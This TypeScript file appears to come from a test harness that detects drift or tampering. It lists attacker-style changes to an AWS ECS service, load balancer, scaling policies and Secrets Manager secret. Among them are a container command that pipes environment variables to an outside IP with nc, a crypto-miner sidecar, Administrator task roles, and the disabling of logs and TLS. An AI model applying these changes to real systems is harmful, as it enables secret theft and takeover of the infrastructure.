import * as scaling from '@aws-sdk/client-application-auto-scaling';
import * as ecs from '@aws-sdk/client-ecs';
import * as elb from '@aws-sdk/client-elastic-load-balancing-v2';
import * as secrets from '@aws-sdk/client-secrets-manager';
import type { LiveWorld } from '../live-world';
import { there, type Change } from './change';
import { READ_POLICY } from './data';

const cluster = (world: LiveWorld) => world.id('AWS::ECS::Cluster');
const service = (world: LiveWorld) => world.id('AWS::ECS::Service', 'Backend');
const balancer = (world: LiveWorld) => world.id('AWS::ElasticLoadBalancingV2::LoadBalancer');
const listener = (world: LiveWorld) => world.id('AWS::ElasticLoadBalancingV2::Listener');
const rule = (world: LiveWorld) => world.id('AWS::ElasticLoadBalancingV2::ListenerRule', 'Backend');
const targetGroup = (world: LiveWorld) => world.id('AWS::ElasticLoadBalancingV2::TargetGroup', 'Backend');

const ofService = (what: string, input: (world: LiveWorld) => Promise<Partial<ecs.UpdateServiceRequest>>): Change => ({
  what: `${what} of the backend`,
  names: 'ComputeStack/Backend',
  make: async (world) =>
    world.clients.ecs.send(
      new ecs.UpdateServiceCommand({
        cluster: await cluster(world),
        service: await service(world),
        ...(await input(world)),
      }),
    ),
});

async function deployment(world: LiveWorld): Promise<ecs.DeploymentConfiguration> {
  const request = { cluster: await cluster(world), services: [await service(world)] };
  const { services = [] } = await world.clients.ecs.send(new ecs.DescribeServicesCommand(request));
  return there(services[0]?.deploymentConfiguration);
}

async function network(world: LiveWorld): Promise<ecs.AwsVpcConfiguration> {
  const request = { cluster: await cluster(world), services: [await service(world)] };
  const { services = [] } = await world.clients.ecs.send(new ecs.DescribeServicesCommand(request));
  return there(services[0]?.networkConfiguration?.awsvpcConfiguration);
}

/** Runs another revision of the task definition, as an attacker with rights to deploy would. */
const runs = (
  what: string,
  change: (definition: ecs.TaskDefinition, app: ecs.ContainerDefinition) => Partial<ecs.TaskDefinition>,
): Change => ({
  what: `runs tasks ${what}`,
  names: 'TaskDefinition',
  make: async (world) => {
    const { taskDefinition } = await world.clients.ecs.send(
      new ecs.DescribeTaskDefinitionCommand({
        taskDefinition: await world.id('AWS::ECS::TaskDefinition', 'Backend'),
      }),
    );
    const definition = there(taskDefinition);
    const app = there(definition.containerDefinitions?.[0]);
    const next = { ...definition, ...change(definition, app) };
    const { taskDefinition: registered } = await world.clients.ecs.send(
      new ecs.RegisterTaskDefinitionCommand(next as ecs.RegisterTaskDefinitionRequest),
    );
    return world.clients.ecs.send(
      new ecs.UpdateServiceCommand({
        cluster: await cluster(world),
        service: await service(world),
        taskDefinition: registered?.taskDefinitionArn,
      }),
    );
  },
});

const app =
  (changed: Partial<ecs.ContainerDefinition>) => (definition: ecs.TaskDefinition, own: ecs.ContainerDefinition) => ({
    containerDefinitions: [{ ...own, ...changed }, ...(definition.containerDefinitions ?? []).slice(1)],
  });

const balancerAttribute = (Key: string, Value: string): Change => ({
  what: `sets ${Key} of the load balancer to ${Value}`,
  names: Key,
  make: async (world) =>
    world.clients.loadBalancing.send(
      new elb.ModifyLoadBalancerAttributesCommand({
        LoadBalancerArn: await balancer(world),
        Attributes: [{ Key, Value }],
      }),
    ),
});

const groupAttribute = (Key: string, Value: string): Change => ({
  what: `sets ${Key} of a target group to ${Value}`,
  names: Key,
  make: async (world) =>
    world.clients.loadBalancing.send(
      new elb.ModifyTargetGroupAttributesCommand({
        TargetGroupArn: await targetGroup(world),
        Attributes: [{ Key, Value }],
      }),
    ),
});

const ofGroup = (input: Partial<elb.ModifyTargetGroupInput>): Change => ({
  what: `changes a target group: ${JSON.stringify(input)}`,
  names: Object.keys(input)[0],
  make: async (world) =>
    world.clients.loadBalancing.send(
      new elb.ModifyTargetGroupCommand({ TargetGroupArn: await targetGroup(world), ...input }),
    ),
});

const ofListener = (what: string, input: (world: LiveWorld) => Promise<Partial<elb.ModifyListenerInput>>): Change => ({
  what: `changes the listener: ${what}`,
  names: 'ComputeStack/',
  make: async (world) =>
    world.clients.loadBalancing.send(
      new elb.ModifyListenerCommand({ ListenerArn: await listener(world), ...(await input(world)) }),
    ),
});

const PATH: elb.RuleCondition = { Field: 'path-pattern', PathPatternConfig: { Values: ['/api/*'] } };
const header = (...Values: string[]): elb.RuleCondition => ({
  Field: 'http-header',
  HttpHeaderConfig: { HttpHeaderName: 'x-origin-verify', Values },
});

const ofRule = (what: string, input: (world: LiveWorld) => Promise<Partial<elb.ModifyRuleInput>>): Change => ({
  what: `changes a rule of the listener: ${what}`,
  names: 'ComputeStack/Backend',
  make: async (world) =>
    world.clients.loadBalancing.send(
      new elb.ModifyRuleCommand({ RuleArn: await rule(world), ...(await input(world)) }),
    ),
});

const ofTarget = (what: string, input: Partial<scaling.RegisterScalableTargetRequest>): Change => ({
  what: `${what} of the backend's scaling`,
  names: 'ComputeStack/Backend',
  make: (world) =>
    world.clients.autoScaling.send(
      new scaling.RegisterScalableTargetCommand({
        ServiceNamespace: 'ecs',
        ScalableDimension: 'ecs:service:DesiredCount',
        ResourceId: 'service/payments-local/backend',
        ...input,
      }),
    ),
});

async function policies(world: LiveWorld): Promise<scaling.ScalingPolicy[]> {
  const request = { ServiceNamespace: 'ecs' as const, ResourceId: 'service/payments-local/backend' };
  const { ScalingPolicies = [] } = await world.clients.autoScaling.send(
    new scaling.DescribeScalingPoliciesCommand(request),
  );
  return ScalingPolicies;
}

const ofPolicy = (what: string, change: Partial<scaling.TargetTrackingScalingPolicyConfiguration>): Change => ({
  what: `changes a policy of scaling: ${what}`,
  names: 'ComputeStack/Backend',
  make: async (world) => {
    const policy = there((await policies(world))[0]);
    const { PolicyName, ServiceNamespace, ResourceId, ScalableDimension, PolicyType } = policy;
    return world.clients.autoScaling.send(
      new scaling.PutScalingPolicyCommand({
        ...{ PolicyName, ServiceNamespace, ResourceId, ScalableDimension, PolicyType },
        TargetTrackingScalingPolicyConfiguration: {
          ...there(policy.TargetTrackingScalingPolicyConfiguration),
          ...change,
        },
      }),
    );
  },
});

const secret = (world: LiveWorld) => world.id('AWS::SecretsManager::Secret', 'OriginHeader');

/** What can be done to the services and the load balancer. */
export const computeChanges: readonly Change[] = [
  ofService('gives a shell into the tasks', () => Promise.resolve({ enableExecuteCommand: true })),
  { ...ofService('stops the tasks', () => Promise.resolve({ desiredCount: 0 })), names: 'backend wants 0 tasks' },
  ofService('changes the grace period', () => Promise.resolve({ healthCheckGracePeriodSeconds: 3600 })),
  ofService('changes the platform version', () => Promise.resolve({ platformVersion: '1.3.0' })),
  ofService('stops the rebalancing', () => Promise.resolve({ availabilityZoneRebalancing: 'DISABLED' })),
  ofService('stops the tagging', () => Promise.resolve({ enableECSManagedTags: false, propagateTags: 'NONE' })),
  ofService('takes the load balancer', () => Promise.resolve({ loadBalancers: [] })),
  ofService('gives public addresses', async (world) => ({
    networkConfiguration: { awsvpcConfiguration: { ...(await network(world)), assignPublicIp: 'ENABLED' } },
  })),
  ofService('changes the groups', async (world) => ({
    networkConfiguration: {
      awsvpcConfiguration: {
        ...(await network(world)),
        securityGroups: [await world.id('AWS::EC2::SecurityGroup', 'Database')],
      },
    },
  })),
  ofService('moves the subnets', async (world) => ({
    networkConfiguration: {
      awsvpcConfiguration: {
        ...(await network(world)),
        subnets: [await world.id('AWS::EC2::Subnet', 'PublicSubnet1')],
      },
    },
  })),
  ofService('stops the rollback by the circuit breaker', async (world) => ({
    deploymentConfiguration: {
      ...(await deployment(world)),
      deploymentCircuitBreaker: { enable: true, rollback: false },
    },
  })),
  ofService('stops the rollback by alarms', async (world) => ({
    deploymentConfiguration: {
      ...(await deployment(world)),
      alarms: { alarmNames: [], enable: false, rollback: false },
    },
  })),
  ofService('lets a deployment stop half of the tasks', async (world) => ({
    deploymentConfiguration: { ...(await deployment(world)), minimumHealthyPercent: 50 },
  })),
  ofService('lets a deployment start many tasks', async (world) => ({
    deploymentConfiguration: { ...(await deployment(world)), maximumPercent: 400 },
  })),
  runs('of another image', app({ image: '999999999999.dkr.ecr.us-east-1.amazonaws.com/theirs:1.0.0' })),
  runs(
    'of the latest image',
    app({ image: '000000000000.dkr.ecr.us-east-1.amazonaws.com/payments-local/backend:latest' }),
  ),
  runs('as root', app({ user: '0:0' })),
  runs('with privileges', app({ privileged: true })),
  runs('on a writable file system', app({ readonlyRootFilesystem: false })),
  runs('with all capabilities', app({ linuxParameters: {} })),
  runs('with another command', app({ command: ['sh', '-c', 'env | nc 198.51.100.7 443'] })),
  runs('with another entry point', app({ entryPoint: ['/bin/sh'] })),
  runs('without health checks', app({ healthCheck: undefined })),
  runs('without logs', app({ logConfiguration: undefined })),
  runs('that log elsewhere', app({ logConfiguration: { logDriver: 'awslogs', options: { 'awslogs-group': 'x' } } })),
  runs('with another environment', app({ environment: [{ name: 'NODE_OPTIONS', value: '--require /tmp/x' }] })),
  runs('with a secret in the environment', app({ secrets: [{ name: 'X', valueFrom: 'arn:aws:ssm:::x' }] })),
  runs('with another port', app({ portMappings: [{ containerPort: 22 }] })),
  runs('with a mounted volume', (definition, own) => ({
    ...app({ mountPoints: [{ sourceVolume: 'x', containerPath: '/x' }] })(definition, own),
    volumes: [{ name: 'x' }],
  })),
  runs('without the collector', (definition) => ({
    containerDefinitions: (definition.containerDefinitions ?? []).slice(0, 1),
  })),
  runs('with another container', (definition) => ({
    containerDefinitions: [
      ...(definition.containerDefinitions ?? []),
      { name: 'another', image: 'public.ecr.aws/x/miner:1.0.0', essential: false },
    ],
  })),
  runs('with another role', () => ({ taskRoleArn: 'arn:aws:iam::000000000000:role/Administrator' })),
  runs('started by another role', () => ({ executionRoleArn: 'arn:aws:iam::000000000000:role/Administrator' })),
  runs('of another size', () => ({ cpu: '4096', memory: '8192' })),
  runs('of another architecture', () => ({ runtimePlatform: { cpuArchitecture: 'X86_64' } })),
  {
    what: 'starts another service in the cluster',
    names: 'is in no template',
    make: async (world) =>
      world.clients.ecs.send(
        new ecs.CreateServiceCommand({
          cluster: await cluster(world),
          serviceName: 'another',
          taskDefinition: await world.id('AWS::ECS::TaskDefinition', 'Backend'),
          desiredCount: 1,
        }),
      ),
  },
  {
    what: 'starts a task beside the services',
    names: 'is in no template',
    make: async (world) =>
      world.clients.ecs.send(
        new ecs.RunTaskCommand({
          cluster: await cluster(world),
          taskDefinition: await world.id('AWS::ECS::TaskDefinition', 'Backend'),
          count: 1,
        }),
      ),
  },
  {
    what: 'deletes a service',
    names: 'ComputeStack/Backend',
    make: async (world) =>
      world.clients.ecs.send(
        new ecs.DeleteServiceCommand({ cluster: await cluster(world), service: await service(world), force: true }),
      ),
  },
  {
    what: 'takes a tag from a running task',
    names: 'lacks CostCenter',
    make: async (world) => {
      const { taskArns = [] } = await world.clients.ecs.send(
        new ecs.ListTasksCommand({ cluster: await cluster(world) }),
      );
      return world.clients.ecs.send(
        new ecs.UntagResourceCommand({ resourceArn: taskArns[0], tagKeys: ['CostCenter'] }),
      );
    },
  },
  {
    what: 'switches the metrics of containers off',
    names: 'ClusterSettings',
    make: async (world) =>
      world.clients.ecs.send(
        new ecs.UpdateClusterSettingsCommand({
          cluster: await cluster(world),
          settings: [{ name: 'containerInsights', value: 'disabled' }],
        }),
      ),
  },
  {
    what: 'adds capacity providers to the cluster',
    names: 'capacityProviders',
    make: async (world) =>
      world.clients.ecs.send(
        new ecs.PutClusterCapacityProvidersCommand({
          cluster: await cluster(world),
          capacityProviders: ['FARGATE_SPOT'],
          defaultCapacityProviderStrategy: [{ capacityProvider: 'FARGATE_SPOT' }],
        }),
      ),
  },
  ofTarget('lowers the maximum', { MaxCapacity: 4 }),
  ofTarget('raises the maximum', { MaxCapacity: 200 }),
  ofTarget('lowers the minimum', { MinCapacity: 1 }),
  ofTarget('suspends all', {
    SuspendedState: {
      DynamicScalingInSuspended: true,
      DynamicScalingOutSuspended: true,
      ScheduledScalingSuspended: true,
    },
  }),
  {
    what: 'stops scaling the backend at all',
    names: 'is not there',
    make: (world) =>
      world.clients.autoScaling.send(
        new scaling.DeregisterScalableTargetCommand({
          ServiceNamespace: 'ecs',
          ScalableDimension: 'ecs:service:DesiredCount',
          ResourceId: 'service/payments-local/backend',
        }),
      ),
  },
  ofPolicy('the target', { TargetValue: 95 }),
  ofPolicy('the pause after scaling out', { ScaleOutCooldown: 3600 }),
  ofPolicy('the pause after scaling in', { ScaleInCooldown: 1 }),
  ofPolicy('no more scaling in', { DisableScaleIn: true }),
  {
    what: 'deletes a policy of scaling',
    names: 'is not there',
    make: async (world) => {
      const { PolicyName, ServiceNamespace, ResourceId, ScalableDimension } = there((await policies(world))[0]);
      return world.clients.autoScaling.send(
        new scaling.DeleteScalingPolicyCommand({ PolicyName, ServiceNamespace, ResourceId, ScalableDimension }),
      );
    },
  },
  {
    what: 'adds a policy of scaling',
    names: 'is in no template',
    make: (world) =>
      world.clients.autoScaling.send(
        new scaling.PutScalingPolicyCommand({
          PolicyName: 'another',
          ServiceNamespace: 'ecs',
          ResourceId: 'service/payments-local/backend',
          ScalableDimension: 'ecs:service:DesiredCount',
          PolicyType: 'TargetTrackingScaling',
          TargetTrackingScalingPolicyConfiguration: {
            TargetValue: 1,
            PredefinedMetricSpecification: { PredefinedMetricType: 'ECSServiceAverageCPUUtilization' },
          },
        }),
      ),
  },
  {
    what: 'scales the backend by a schedule',
    names: 'is in no template',
    make: (world) =>
      world.clients.autoScaling.send(
        new scaling.PutScheduledActionCommand({
          ScheduledActionName: 'nights',
          ServiceNamespace: 'ecs',
          ResourceId: 'service/payments-local/backend',
          ScalableDimension: 'ecs:service:DesiredCount',
          Schedule: 'cron(0 22 * * ? *)',
          ScalableTargetAction: { MinCapacity: 0, MaxCapacity: 0 },
        }),
      ),
  },
  balancerAttribute('access_logs.s3.enabled', 'false'),
  balancerAttribute('access_logs.s3.bucket', 'theirs'),
  balancerAttribute('connection_logs.s3.enabled', 'false'),
  balancerAttribute('deletion_protection.enabled', 'true'),
  balancerAttribute('idle_timeout.timeout_seconds', '4000'),
  balancerAttribute('routing.http.drop_invalid_header_fields.enabled', 'false'),
  balancerAttribute('routing.http.desync_mitigation_mode', 'monitor'),
  balancerAttribute('routing.http.preserve_host_header.enabled', 'false'),
  balancerAttribute('routing.http.xff_header_processing.mode', 'remove'),
  balancerAttribute('routing.http2.enabled', 'false'),
  balancerAttribute('waf.fail_open.enabled', 'true'),
  balancerAttribute('client_keep_alive.seconds', '60'),
  {
    what: 'moves the load balancer into other subnets',
    names: 'Subnets',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.SetSubnetsCommand({
          LoadBalancerArn: await balancer(world),
          Subnets: [
            await world.id('AWS::EC2::Subnet', 'PrivateSubnet1'),
            await world.id('AWS::EC2::Subnet', 'PrivateSubnet2'),
          ],
        }),
      ),
  },
  {
    what: 'puts the load balancer into another group',
    names: 'SecurityGroups',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.SetSecurityGroupsCommand({
          LoadBalancerArn: await balancer(world),
          SecurityGroups: [await world.id('AWS::EC2::SecurityGroup', 'Frontend')],
        }),
      ),
  },
  {
    what: 'answers for IPv6 too',
    names: 'IpAddressType',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.SetIpAddressTypeCommand({ LoadBalancerArn: await balancer(world), IpAddressType: 'dualstack' }),
      ),
  },
  {
    what: 'makes another load balancer in the VPC',
    names: 'is in no template',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.CreateLoadBalancerCommand({
          Name: 'another',
          Subnets: [
            await world.id('AWS::EC2::Subnet', 'PublicSubnet1'),
            await world.id('AWS::EC2::Subnet', 'PublicSubnet2'),
          ],
        }),
      ),
  },
  ofListener('an old policy of TLS', () => Promise.resolve({ SslPolicy: 'ELBSecurityPolicy-2016-08' })),
  ofListener('another port', () => Promise.resolve({ Port: 8443 })),
  ofListener('no TLS', () => Promise.resolve({ Protocol: 'HTTP' })),
  ofListener('another certificate', () =>
    Promise.resolve({ Certificates: [{ CertificateArn: 'arn:aws:acm:us-east-1:000000000000:certificate/theirs' }] }),
  ),
  ofListener('everything goes to the backend', async (world) => ({
    DefaultActions: [{ Type: 'forward', TargetGroupArn: await targetGroup(world) }],
  })),
  ofListener('another answer', () =>
    Promise.resolve({ DefaultActions: [{ Type: 'fixed-response', FixedResponseConfig: { StatusCode: '200' } }] }),
  ),
  {
    what: 'adds a certificate to the listener',
    names: 'Certificates',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.AddListenerCertificatesCommand({
          ListenerArn: await listener(world),
          Certificates: [{ CertificateArn: 'arn:aws:acm:us-east-1:000000000000:certificate/theirs' }],
        }),
      ),
  },
  {
    what: 'adds headers to every answer of the listener',
    names: 'ListenerAttributes',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.ModifyListenerAttributesCommand({
          ListenerArn: await listener(world),
          Attributes: [{ Key: 'routing.http.response.access_control_allow_origin.header_value', Value: '*' }],
        }),
      ),
  },
  {
    what: 'opens a listener without TLS',
    names: 'is in no template',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.CreateListenerCommand({
          LoadBalancerArn: await balancer(world),
          Port: 80,
          Protocol: 'HTTP',
          DefaultActions: [{ Type: 'forward', TargetGroupArn: await targetGroup(world) }],
        }),
      ),
  },
  {
    what: 'deletes the listener',
    names: 'is not there',
    make: async (world) =>
      world.clients.loadBalancing.send(new elb.DeleteListenerCommand({ ListenerArn: await listener(world) })),
  },
  ofRule('no header is asked for', () => Promise.resolve({ Conditions: [PATH] })),
  ofRule('any header will do', () => Promise.resolve({ Conditions: [PATH, header('*')] })),
  ofRule('a second header will do', () =>
    Promise.resolve({ Conditions: [PATH, header('known-to-the-attacker-since-monday', 'x'.repeat(64))] }),
  ),
  ofRule('another header value', () => Promise.resolve({ Conditions: [PATH, header('y'.repeat(64))] })),
  ofRule('another path', () =>
    Promise.resolve({
      Conditions: [{ Field: 'path-pattern', PathPatternConfig: { Values: ['/*'] } }, header('x'.repeat(64))],
    }),
  ),
  ofRule('another target', async (world) => ({
    Actions: [
      { Type: 'forward', TargetGroupArn: await world.id('AWS::ElasticLoadBalancingV2::TargetGroup', 'Frontend') },
    ],
  })),
  ofRule('a redirection', () =>
    Promise.resolve({
      Actions: [{ Type: 'redirect', RedirectConfig: { Host: 'theirs.example.com', StatusCode: 'HTTP_302' } }],
    }),
  ),
  {
    what: 'changes the order of the rules',
    names: 'Priority',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.SetRulePrioritiesCommand({ RulePriorities: [{ RuleArn: await rule(world), Priority: 300 }] }),
      ),
  },
  {
    what: 'adds a rule that needs no header',
    names: 'is in no template',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.CreateRuleCommand({
          ListenerArn: await listener(world),
          Priority: 1,
          Conditions: [{ Field: 'path-pattern', Values: ['/admin*'] }],
          Actions: [{ Type: 'forward', TargetGroupArn: await targetGroup(world) }],
        }),
      ),
  },
  {
    what: 'deletes a rule',
    names: 'is not there',
    make: async (world) => world.clients.loadBalancing.send(new elb.DeleteRuleCommand({ RuleArn: await rule(world) })),
  },
  ofGroup({ HealthCheckIntervalSeconds: 300 }),
  ofGroup({ UnhealthyThresholdCount: 10 }),
  ofGroup({ HealthyThresholdCount: 10 }),
  ofGroup({ HealthCheckPath: '/' }),
  ofGroup({ HealthCheckTimeoutSeconds: 29 }),
  ofGroup({ Matcher: { HttpCode: '200-499' } }),
  ofGroup({ HealthCheckPort: '9999' }),
  ofGroup({ HealthCheckEnabled: false }),
  groupAttribute('deregistration_delay.timeout_seconds', '3600'),
  groupAttribute('stickiness.enabled', 'true'),
  groupAttribute('load_balancing.algorithm.type', 'round_robin'),
  groupAttribute('slow_start.duration_seconds', '900'),
  {
    what: 'sends requests to a target that is no task',
    names: 'is a target, and no task',
    make: async (world) =>
      world.clients.loadBalancing.send(
        new elb.RegisterTargetsCommand({
          TargetGroupArn: await targetGroup(world),
          Targets: [{ Id: '198.51.100.7', Port: 443 }],
        }),
      ),
  },
  {
    what: 'lets another account read the origin header',
    names: 'ResourcePolicy',
    make: async (world) =>
      world.clients.secrets.send(
        new secrets.PutResourcePolicyCommand({ SecretId: await secret(world), ResourcePolicy: READ_POLICY }),
      ),
  },
  {
    what: 'marks the origin header for deletion',
    names: 'ComputeStack/OriginHeader',
    make: async (world) =>
      world.clients.secrets.send(new secrets.DeleteSecretCommand({ SecretId: await secret(world) })),
  },
  {
    what: 'puts the origin header under another key',
    names: 'KmsKeyId',
    make: async (world) =>
      world.clients.secrets.send(
        new secrets.UpdateSecretCommand({ SecretId: await secret(world), KmsKeyId: 'alias/aws/secretsmanager' }),
      ),
  },
  {
    what: 'copies the origin header to another region',
    names: 'ReplicaRegions',
    make: async (world) =>
      world.clients.secrets.send(
        new secrets.ReplicateSecretToRegionsCommand({
          SecretId: await secret(world),
          AddReplicaRegions: [{ Region: 'eu-west-1' }],
        }),
      ),
  },
];
